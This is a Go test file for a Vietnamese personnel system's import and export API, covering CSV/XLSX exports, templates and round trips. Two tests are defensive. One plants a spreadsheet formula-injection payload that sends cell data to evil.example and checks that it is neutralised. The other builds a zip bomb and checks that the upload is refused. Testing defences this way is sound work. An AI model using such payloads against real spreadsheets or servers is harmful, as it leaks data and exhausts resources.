package org_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/govtrain/lms/api/apitest"
)

func download(t *testing.T, a *apitest.API, as, path string) []byte {
	t.Helper()
	res := a.Get(path, as)
	if res.Code != http.StatusOK {
		t.Fatalf("GET %s: got %d %s", path, res.Code, res.Body)
	}
	return res.Body.Bytes()
}

// peopleTotal is how many people as may list.
func peopleTotal(t *testing.T, a *apitest.API, as string) int {
	t.Helper()
	var p struct {
		Total int `json:"total"`
	}
	a.Get("/api/v1/people?page_size=1", as).JSON(&p)
	return p.Total
}

func TestExportCSV(t *testing.T) {
	a := apitest.New(t)
	res := a.Get("/api/v1/people/export?format=csv", "quanly")
	if res.Code != http.StatusOK {
		t.Fatalf("got %d %s", res.Code, res.Body)
	}
	today := time.Now().In(time.FixedZone("ICT", 7*3600)).Format("20060102")
	if cd := res.Header().Get("Content-Disposition"); cd != `attachment; filename=can-bo-`+today+`.csv` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if ct := res.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	body := res.Body.Bytes()
	if !bytes.HasPrefix(body, []byte("\xef\xbb\xbfMã cán bộ,Họ,Tên đệm,Tên,Giới tính,Ngày sinh,")) {
		t.Errorf("file starts %q, want a BOM and the Vietnamese header", body[:min(len(body), 80)])
	}
	recs, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := peopleTotal(t, a, "quanly"); len(recs)-1 != want {
		t.Errorf("%d rows, want the %d people in scope", len(recs)-1, want)
	}
	for _, r := range recs[1:] {
		if r[8] != "443" && !strings.HasPrefix(r[8], "443-") {
			t.Errorf("agency %s outside the scope exported", r[8])
		}
		if !regexp.MustCompile(`^(\d\d/\d\d/\d{4})?$`).MatchString(r[5]) {
			t.Errorf("birth date %q not dd/mm/yyyy", r[5])
		}
	}
	// Filters of the list apply; bad ones are refused.
	filtered := download(t, a, "noivu", "/api/v1/people/export?q=nguyen+van+an")
	if n := bytes.Count(filtered, []byte("\r\n")); n != 2 {
		t.Errorf("q=nguyen van an exported %d lines, want header and one person", n)
	}
	semi := download(t, a, "noivu", "/api/v1/people/export?q=nguyen+van+an&delimiter=%3B")
	if !bytes.HasPrefix(semi, []byte("\xef\xbb\xbfMã cán bộ;Họ;")) {
		t.Errorf("delimiter=; file starts %q", semi[:40])
	}
	for _, q := range []string{"format=pdf", "kind=x", "delimiter=|", "agency_id=abc"} {
		if res := a.Get("/api/v1/people/export?"+q, "noivu"); res.Code != http.StatusBadRequest {
			t.Errorf("%s: got %d, want 400", q, res.Code)
		}
	}
}

func TestExportRoundTrip(t *testing.T) {
	a := apitest.New(t)
	for _, format := range []string{"csv", "xlsx"} {
		for _, as := range []string{"quanly", "noivu"} {
			file := download(t, a, as, "/api/v1/people/export?format="+format)
			p := preview(t, a, as, "export."+format, file)
			if want := peopleTotal(t, a, as); p.Total != want || p.Valid != want || p.Invalid != 0 || len(p.IgnoredColumns) != 0 {
				t.Errorf("%s %s: preview total %d valid %d invalid %d ignored %v, want %d valid", format, as, p.Total, p.Valid, p.Invalid, p.IgnoredColumns, want)
			}
			for _, r := range p.Rows {
				if r.Action != "update" || len(r.Errors) != 0 || len(r.Changes) != 0 {
					t.Errorf("%s %s: row %d %+v, want an update without errors or changes", format, as, r.Row, r)
					break
				}
			}
		}
	}
}

func TestExportDefusesFormulas(t *testing.T) {
	a := apitest.New(t)
	code := codeIn(t, a, "443-nghen")
	const title = `=HYPERLINK("http://evil.example/?"&A1,"Bấm")`
	if _, err := a.DB.Exec(`UPDATE people SET job_title = $2, phone = '+84 912 345 678', version = version + 1 WHERE code = $1`, code, title); err != nil {
		t.Fatal(err)
	}
	q := "/api/v1/people/export?q=" + code
	csvFile := download(t, a, "quanly", q+"&format=csv")
	recs, err := csv.NewReader(bytes.NewReader(csvFile[3:])).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export %q: %v", csvFile, err)
	}
	if got := recs[1][12]; got != "'"+title {
		t.Errorf("CSV job title %q, want it quoted", got)
	}
	if got := recs[1][7]; got != "'+84 912 345 678" {
		t.Errorf("CSV phone %q, want it quoted", got)
	}
	xlsxFile := download(t, a, "quanly", q+"&format=xlsx")
	x, err := excelize.OpenReader(bytes.NewReader(xlsxFile))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got, _ := x.GetCellValue("Cán bộ", "M2"); got != "'"+title {
		t.Errorf("XLSX job title %q, want it quoted", got)
	}
	if f, _ := x.GetCellFormula("Cán bộ", "M2"); f != "" {
		t.Errorf("XLSX job title is a formula %q", f)
	}
	if sheet := zipEntry(t, xlsxFile, "xl/worksheets/sheet1.xml"); strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
		t.Errorf("the sheet holds a formula element")
	}
	if style, _ := x.GetCellStyle("Cán bộ", "A1"); style == 0 {
		t.Errorf("the header is not styled")
	}
	if w, _ := x.GetColWidth("Cán bộ", "G"); w < 20 {
		t.Errorf("e-mail column %v wide", w)
	}
	// The quote comes off again on import: nothing changes.
	for _, f := range [][]byte{csvFile, xlsxFile} {
		p := preview(t, a, "quanly", map[bool]string{true: "a.csv", false: "a.xlsx"}[bytes.Equal(f, csvFile)], f)
		if len(p.Rows) != 1 || len(p.Rows[0].Changes) != 0 || len(p.Rows[0].Errors) != 0 {
			t.Errorf("re-import %+v, want no change", p.Rows)
		}
	}
}

func zipEntry(t *testing.T, data []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(f)
	return string(b)
}

func TestImportTemplate(t *testing.T) {
	a := apitest.New(t)
	csvTpl := download(t, a, "quanly", "/api/v1/people/import/template?format=csv")
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(csvTpl, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(recs) != 2 || strings.Join(recs[0], ",") != strings.Join(importHeader, ",") || recs[1][0] != "VD0001" {
		t.Fatalf("CSV template %q: %v", csvTpl, err)
	}
	xlsxTpl := download(t, a, "quanly", "/api/v1/people/import/template?format=xlsx")
	x, err := excelize.OpenReader(bytes.NewReader(xlsxTpl))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got := strings.Join(x.GetSheetList(), ","); got != "Danh sách,Hướng dẫn,Mã đơn vị" {
		t.Errorf("sheets %s", got)
	}
	help, _ := x.GetRows("Hướng dẫn")
	text := ""
	for _, r := range help {
		text += strings.Join(r, " ") + "\n"
	}
	for _, want := range []string{"Mã cán bộ", "Cán bộ, Công chức hoặc Viên chức", "Sau đại học", "Nam hoặc Nữ", "ngày/tháng/năm"} {
		if !strings.Contains(text, want) {
			t.Errorf("the instructions do not mention %q", want)
		}
	}
	agencies, _ := x.GetRows("Mã đơn vị")
	for _, r := range agencies[1:] {
		if r[0] != "443" && !strings.HasPrefix(r[0], "443-") {
			t.Errorf("agency %s outside the manager's scope listed", r[0])
		}
	}
	for name, file := range map[string][]byte{"mau.csv": csvTpl, "mau.xlsx": xlsxTpl} {
		p := preview(t, a, "quanly", name, file)
		if p.Total != 1 || p.Valid != 1 || p.Rows[0].Code != "VD0001" || p.Rows[0].Action != "create" || p.Rows[0].AgencyCode != "443" {
			t.Errorf("%s: preview %+v, want the example as a valid new person in 443", name, p)
		}
	}
	if res := a.Get("/api/v1/people/import/template?format=doc", "admin"); res.Code != http.StatusBadRequest {
		t.Errorf("format=doc: got %d, want 400", res.Code)
	}
}

func TestImportXLSX(t *testing.T) {
	a := apitest.New(t)
	x := excelize.NewFile()
	s := "Sheet1"
	x.SetSheetRow(s, "A1", &[]any{"DANH SÁCH CÁN BỘ NĂM 2009"})
	x.SetSheetRow(s, "A3", &[]any{"STT", "Mã cán bộ", "Họ và tên", "Ngày sinh", "Mã đơn vị", "Loại", "Điện thoại", "Chức vụ"})
	x.SetSheetRow(s, "A4", &[]any{1, "NK1101", "Đặng Thị Ánh", time.Date(1988, 7, 9, 0, 0, 0, 0, time.UTC), "443", "Công chức", 912000101})
	x.SetSheetRow(s, "A6", &[]any{2, "NK1102", "Võ Hùng", "12/11/1979", "443-nghen", "Cán bộ"})
	x.SetCellFormula(s, "H4", `UPPER("chuyên viên")`)
	var buf bytes.Buffer
	x.Write(&buf)
	file := buf.Bytes()
	// A formula is read as the value Excel cached, never evaluated: give H4 one.
	file = rewriteEntry(t, file, "xl/worksheets/sheet1.xml", func(s string) string {
		return regexp.MustCompile(`<c r="H4"([^>]*)><f>([^<]*)</f>(<v></v>)?</c>`).
			ReplaceAllString(s, `<c r="H4" t="str"><f>$2</f><v>Chuyên viên chính</v></c>`)
	})
	p := preview(t, a, "quanly", "ds.xlsx", file)
	if p.Total != 2 || p.Valid != 2 || p.Rows[0].Row != 4 || p.Rows[1].Row != 6 {
		t.Fatalf("preview %+v, want rows 4 and 6 valid", p)
	}
	im := runImport(t, a, "quanly", "ds.xlsx", file, "all")
	if im.Created != 2 {
		t.Fatalf("import %+v", im)
	}
	var got struct {
		Birth string `db:"birth"`
		Phone string `db:"phone"`
		Title string `db:"job_title"`
		Name  string `db:"full_name"`
	}
	a.DB.Get(&got, `SELECT to_char(birth_date, 'DD/MM/YYYY') AS birth, phone, job_title, full_name FROM people WHERE code = 'NK1101'`)
	if got.Birth != "09/07/1988" || got.Phone != "0912000101" || got.Title != "Chuyên viên chính" || got.Name != "Đặng Thị Ánh" {
		t.Errorf("imported %+v", got)
	}
}

func rewriteEntry(t *testing.T, data []byte, name string, fn func(string) string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, f := range zr.File {
		r, _ := f.Open()
		b, _ := io.ReadAll(r)
		if f.Name == name {
			b = []byte(fn(string(b)))
		}
		out, _ := w.Create(f.Name)
		out.Write(b)
	}
	w.Close()
	return buf.Bytes()
}

func TestImportRefusesHostileXLSX(t *testing.T) {
	a := apitest.New(t)
	tpl := download(t, a, "admin", "/api/v1/people/import/template?format=xlsx")

	// A zip bomb: 200 MB of zeros in the sheet, a few hundred KB compressed.
	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	for _, name := range []string{"[Content_Types].xml", "xl/workbook.xml"} {
		w, _ := zw.Create(name)
		w.Write([]byte("<x/>"))
	}
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	zeros := make([]byte, 1<<20)
	for range 200 {
		w.Write(zeros)
	}
	zw.Close()
	if bomb.Len() > int(a.Config.MaxUploadBytes) {
		t.Fatalf("the bomb is %d bytes, over the upload limit", bomb.Len())
	}

	cases := []struct {
		name    string
		content []byte
		status  int
		code    string
	}{
		{"zip bomb", bomb.Bytes(), 413, "too_large"},
		{"truncated", tpl[:len(tpl)/2], 400, "bad_file"},
		{"not a workbook", zipBytes(t, map[string]string{"hello.txt": "hi"}), 400, "bad_file"},
		{"xlsx named csv", tpl, 415, "unsupported_file"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			name := "a.xlsx"
			if c.name == "xlsx named csv" {
				name = "a.csv"
			}
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			res := upload(a, "admin", "/api/v1/people/import/preview", name, c.content, nil)
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if res.Code != c.status || res.ErrorCode() != c.code {
				t.Errorf("got %d %s, want %d %s", res.Code, res.Body, c.status, c.code)
			}
			if took > 2*time.Second {
				t.Errorf("took %v", took)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
				t.Errorf("allocated %d MiB", alloc>>20)
			}
		})
	}
}

func zipBytes(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for name, s := range files {
		f, _ := w.Create(name)
		f.Write([]byte(s))
	}
	w.Close()
	return buf.Bytes()
}
